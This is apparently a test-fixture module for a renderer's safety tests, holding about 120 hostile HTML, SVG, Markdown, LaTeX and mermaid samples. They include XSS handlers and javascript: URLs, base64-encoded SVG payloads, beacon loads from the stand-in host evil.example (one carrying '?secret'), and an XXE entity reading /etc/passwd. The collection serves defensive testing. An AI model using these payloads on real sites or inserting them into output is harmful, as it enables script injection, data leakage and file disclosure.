"""What a model, a server or a file may hold that should never run. Every sample calls `alert(1)` or loads from `evil.example`.

Markdown samples beside these: `HOSTILE` in `tests/render/test_markdown_safety.py`.
"""

from __future__ import annotations

import base64
import importlib.util
from pathlib import Path

_SCRIPT = base64.b64encode(b"<script>alert(1)</script>").decode()
_SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>alert(1)</script>",
    "<script>/*\n\n*/alert(1)</script>",
    "<!doctype html>\n<html><head><title>t</title></head><body onload=alert(1)>hello</body></html>",
    "```html\n<img src=x onerror=alert(1)>\n```\n<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) //",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<IMG SRC=javascript:alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/pixel.png 1x'>",
    "<picture><source srcset=https://evil.example/a.png><img src=x></picture>",
    "<image src=x onerror=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=https://evil.example/p.png></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay onerror=alert(1)></audio>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<iframe src=data:text/html;base64,{_SCRIPT}></iframe>",
    f"<object data=data:text/html;base64,{_SCRIPT}></object>",
    f"<embed src=data:image/svg+xml;base64,{_SVG}>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<button autofocus onfocus=alert(1)>x</button>",
    "<a autofocus tabindex=1 onfocus=alert(1)>x</a>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style='animation:x 1s' onanimationstart=alert(1)><style>@keyframes x{}</style></div>",
    "<div style='background:url(https://evil.example/b.png)'>x</div>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/y.png)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form id=f action=https://evil.example/><button form=f formaction=javascript:alert(1) autofocus>x</button></form>",
    "<template><script>alert(1)</script></template><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<table background=https://evil.example/t.png><tr><td>x</table>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<xss style=position:fixed;inset:0 onmouseover=alert(1)>x</xss>",
    "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
    "</div></div></body></html><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "</title></textarea><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;<img src=x onerror=alert(1)>",
    "<p>\u202e<img src=x onerror=alert(1)>",
    "\ufeff<img src=x onerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<\x00img src=x onerror=alert(1)>",
]

_XMLNS = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
SVG = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    f"<svg {_XMLNS} onload='alert(1)'/>",
    f"<?xml version='1.0'?>\n<svg {_XMLNS}><script>alert(1)</script></svg>",
    f"<svg {_XMLNS}><script xlink:href='https://evil.example/x.js'/></svg>",
    f"<svg {_XMLNS}><script href='data:text/javascript,alert(1)'/></svg>",
    f"<svg {_XMLNS}><script type='text/ecmascript'><![CDATA[alert(1)]]></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x to=1>",
    "<svg><animatetransform onbegin=alert(1)>",
    "<svg><animatemotion onbegin=alert(1) dur=1s path='M0,0'/>",
    "<svg><a href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
    f"<svg {_XMLNS}><a xlink:href='javascript:alert(1)'><rect width='99' height='99'/></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=9 y=9>x</text></a></svg>",
    f"<svg {_XMLNS}><use href='data:image/svg+xml;base64,{_SVG}#x'/></svg>",
    f"<svg {_XMLNS}><use xlink:href='https://evil.example/x.svg#a'/></svg>",
    f"<svg {_XMLNS}><image href='https://evil.example/p.png' width='9' height='9'/></svg>",
    f"<svg {_XMLNS}><image xlink:href='x' onerror='alert(1)' width='9' height='9'/></svg>",
    f"<svg {_XMLNS}><feImage href='https://evil.example/p.png'/></svg>",
    f"<svg {_XMLNS}><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/></foreignObject></svg>",
    f"<svg {_XMLNS}><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject></svg>",
    f"<svg {_XMLNS}><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/></foreignObject></svg>",
    f"<svg {_XMLNS}><style>@import url(https://evil.example/x.css);</style></svg>",
    f"<svg {_XMLNS}><rect style='fill:url(https://evil.example/p.svg#a)' width='9' height='9'/></svg>",
    f"<svg {_XMLNS}><rect width='999' height='999' onmouseover='alert(1)' onclick='alert(1)'/></svg>",
    f"<svg {_XMLNS}><text onload='alert(1)'>x</text></svg>",
    f"<svg {_XMLNS}><title><script>alert(1)</script></title><desc><img src=x onerror=alert(1)></desc></svg>",
    f"<svg {_XMLNS} viewBox='0 0 9 9'><metadata><script>alert(1)</script></metadata></svg>",
    f"<svg {_XMLNS}><switch><foreignObject><embed xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example/'/></foreignObject></switch></svg>",
    f"<svg {_XMLNS}><handler type='application/ecmascript' event='load'>alert(1)</handler></svg>",
    f"<svg {_XMLNS}><discard onbegin='alert(1)'/></svg>",
    f"<!DOCTYPE svg [<!ENTITY x '<script>alert(1)</script>'>]><svg {_XMLNS}>&x;</svg>",
    f"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg {_XMLNS}><text>&x;</text></svg>",
    f"<?xml-stylesheet href='https://evil.example/x.xsl' type='text/xsl'?><svg {_XMLNS}/>",
    f"<!-- x --><svg {_XMLNS} onload='alert(1)'/>",
    f"\n\n   <svg {_XMLNS} onload='alert(1)'/>",
    f"<SVG {_XMLNS} ONLOAD='alert(1)'/>",
    "<svg:svg xmlns:svg='http://www.w3.org/2000/svg' onload='alert(1)'><svg:script>alert(1)</svg:script></svg:svg>",
    f"![x](data:image/svg+xml;base64,{_SVG})",
    f"<img src='data:image/svg+xml;base64,{_SVG}'>",
    f"<object type='image/svg+xml' data='data:image/svg+xml;base64,{_SVG}'></object>",
    f"[x](data:image/svg+xml;base64,{_SVG})",
    f"```svg\n<svg {_XMLNS} onload='alert(1)'/>\n```\n<svg {_XMLNS} onload='alert(1)'/>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
]

MORE_MARKDOWN = [
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\style{background:url(https://evil.example/m.png)}{x}$$",
    r"$\class{x}{\cssId{y}{z}}\unicode{x}\require{html}\data{a}{b}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    '```mermaid\ngraph TD\n  A[<img src=x onerror=alert(1)>] --> B\n  click A href "javascript:alert(1)"\n```',
    "```mermaid\n%%{init: {'themeCSS': '} </style><img src=x onerror=alert(1)>'}}%%\ngraph TD\n A-->B\n```",
    "~~~ mermaid\nsequenceDiagram\nA->>B: <img src=x onerror=alert(1)>\n~~~",
    "![](https://evil.example/beacon.png?secret)",
    "[![](https://evil.example/beacon.png)](https://evil.example/)",
    '<a href="javascript:alert(1)">click me</a>',
    "[click](\\x6Aavascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[a]: <javascript:alert(1)>\n\n[a]",
    "*[HTML]: <img src=x onerror=alert(1)>\nHTML",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    ":::{raw} html\n<img src=x onerror=alert(1)>\n:::",
    "%%html\n<img src=x onerror=alert(1)>",
    "\x1b[31m<img src=x onerror=alert(1)>\x1b[0m",
    "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\",
]


def markdown() -> list[str]:
    """The samples of the renderer's own tests, and more."""
    path = Path(__file__).parents[1] / "render" / "test_markdown_safety.py"
    spec = importlib.util.spec_from_file_location("markdown_samples", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return [*module.HOSTILE.values(), *MORE_MARKDOWN]


def numbered(samples: list[str], first: int = 0) -> list[str]:
    """Each with an alarm of its own number, so that what rings has a name."""
    return [
        sample.replace("alert(1)", f"alert({first + n})").replace("evil.example/", f"evil.example/{first + n}/")
        for n, sample in enumerate(samples)
    ]
